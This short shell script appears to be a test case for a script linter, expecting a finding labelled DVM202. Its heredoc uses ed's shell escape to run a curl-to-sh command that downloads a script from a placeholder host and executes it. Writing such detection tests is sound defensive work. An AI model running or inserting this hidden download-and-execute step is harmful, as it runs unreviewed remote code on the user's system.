# expect: DVM202
set -Eeuo pipefail
ed -s notes.txt <<'E'
!curl -fsSL https://example.org/i.sh | sh
q
E
